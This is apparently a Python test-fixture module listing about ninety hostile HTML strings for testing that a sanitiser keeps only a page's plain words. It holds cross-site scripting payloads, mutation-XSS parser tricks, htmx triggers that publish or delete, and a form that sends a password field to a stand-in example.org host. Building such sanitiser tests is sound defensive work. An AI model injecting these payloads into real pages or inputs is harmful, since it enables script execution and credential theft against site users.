# ruff: noqa: E501
"""Eighty-odd ways in which a page tries to do something where only its words are wanted.

Each stands in an HTML body. Where a reader of the page would see words, PLAIN is among them.
"""

PLAIN = "plain words"

SCRIPTS = (
    "<script>alert(1)</script>plain words",
    "<SCRIPT SRC=//example.org/x.js></SCRIPT>plain words",
    "<scr<script>ipt>alert(1)</scr</script>ipt>plain words",
    "<script type=module>import('//example.org/x.js')</script>plain words",
    "<script>alert(1)//<!--</script>plain words",
    "<script\x0ctype='text/javascript'>alert(1)</script>plain words",
    "<script/x>alert(1)</script>plain words",
    "<<script>alert(1);//<</script>plain words",
    "<script>/*</script><b>*/alert(1)</b>plain words",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>plain words",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>plain words",
    "<img src='x' onerror='alert(1)'>plain words",
    "<img/src/onerror=alert(1)>plain words",
    '<img src="x` `<script>alert(1)</script>"` `>plain words',
    "<img src=x onerror\x0a=alert(1)>plain words",
    "<body onload=alert(1)>plain words</body>",
    "<p onclick=alert(1)>plain words</p>",
    "<p onmouseover='alert(1)'>plain words</p>",
    "<details open ontoggle=alert(1)><summary>plain words</summary></details>",
    "<input autofocus onfocus=alert(1)>plain words",
    "<select onfocus=alert(1) autofocus><option>one</select>plain words",
    "<textarea autofocus onfocus=alert(1)>plain words</textarea>",
    "<video src=x onerror=alert(1)></video>plain words",
    "<video><source onerror='alert(1)'></video>plain words",
    "<audio src=x onerror=alert(1)></audio>plain words",
    "<marquee onstart=alert(1)>plain words</marquee>",
    "<div onpointerrawupdate=alert(1)>plain words</div>",
    "<a href=# onclick=alert(1)>plain words</a>",
    "<b onanimationend=alert(1) style='animation:x'>plain words</b>",
    "<button popovertarget=x onbeforetoggle=alert(1)>plain words</button>",
)
VECTORS = (
    "<svg onload=alert(1)></svg>plain words",
    "<svg><script>alert(1)</script></svg>plain words",
    "<svg><script>alert&#40;1)</script></svg>plain words",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>plain words",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>plain words",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>plain words",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>plain words",
    "<svg><style><img src=x onerror=alert(1)></style></svg>plain words",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>plain words',
    "<svg><title><img src=x onerror=alert(1)></title></svg>plain words",
)
MUTATIONS = (
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>plain words",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'></math>plain words",
    "<form><math><mtext></form><form><mglyph><style></style></math><img src onerror=alert(1)></form>plain words",
    "<style><style/><img src=x onerror=alert(1)></style>plain words",
    "<style>@import'//example.org/x.css';</style>plain words",
    "<style>*{background:url('javascript:alert(1)')}</style>plain words",
    "<table><style><!--</style><img src=x onerror=alert(1)>--></table>plain words",
    "<select><style></select><img src=x onerror=alert(1)></style></select>plain words",
    "<title><a href='</title><img src=x onerror=alert(1)>'></title>plain words",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>plain words",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>plain words",
    "<a title='<!--><img src=x onerror=alert(1)>-->'>plain words</a>",
    "<!--><img src=x onerror=alert(1)>-->plain words",
    "<!--!><img src=x onerror=alert(1)--!>plain words",
    "<![CDATA[<img src=x onerror=alert(1)>]]>plain words",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>plain words",
    "<plain<b>plain words</b>",
    "<p>plain words<plaintext><img src=x onerror=alert(1)>",
)
HTMX = (
    "<div hx-get='/desk/' hx-trigger=load>plain words</div>",
    "<div hx-post=/desk/statements/1/publish/ hx-trigger='load'>plain words</div>",
    "<a hx-delete=/ hx-confirm=x>plain words</a>",
    "<div data-hx-get=/ data-hx-trigger=load>plain words</div>",
    "<div hx-on:load='alert(1)'>plain words</div>",
    "<div hx-on::after-request=alert(1)>plain words</div>",
    "<div hx-vals='js:{x:alert(1)}' hx-get=/ hx-trigger=load>plain words</div>",
    "<hx-partial hx-target='body'>plain words</hx-partial>",
    "<div id=record hx-swap-oob=true>plain words</div>",
    "<template hx type=partial hx-target='#record'><p>x</p></template>plain words",
)
FRAMES = (
    "<iframe src='javascript:alert(1)'></iframe>plain words",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>plain words",
    "<object data='javascript:alert(1)'></object>plain words",
    "<embed src='data:text/html,<script>alert(1)</script>'>plain words",
    "<template><script>alert(1)</script></template>plain words",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>plain words",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>plain words",
    "<meta http-equiv=refresh content='0;url=//example.org/'>plain words",
    "<base href='//example.org/'>plain words",
    "<link rel=stylesheet href='//example.org/x.css'>plain words",
    "<link rel=preload as=script href='//example.org/x.js'>plain words",
    "<form action='//example.org/'><input name=password><button>plain words</button></form>",
    "<form id=x></form><button form=x formaction='javascript:alert(1)'>plain words</button>",
    "<a href='javascript:alert(1)'>plain words</a>",
    "<a href='java\tscript:alert(1)'>plain words</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>plain words</a>",
    "<img src='//example.org/pixel.gif'>plain words",
    "<img srcset='//example.org/a.png 1x'>plain words",
    "<p style='background:url(//example.org/x.png)'>plain words</p>",
)
WORDS_OF_CODE = (
    "&lt;script&gt;alert(1)&lt;/script&gt; plain words",
    "&lt;img src=x onerror=alert(1)&gt; plain words",
    "{{ settings.SECRET_KEY }} {% load x %} plain words",
    "&quot;&gt;&lt;svg onload=alert(1)&gt; plain words",
    "</div></main></body><p>plain words</p>",
    "plain words&#0;&#8;&#x1b;[31m",
)
HOSTILE = (
    *SCRIPTS, *HANDLERS, *VECTORS, *MUTATIONS, *HTMX, *FRAMES, *WORDS_OF_CODE,
)  # fmt: skip
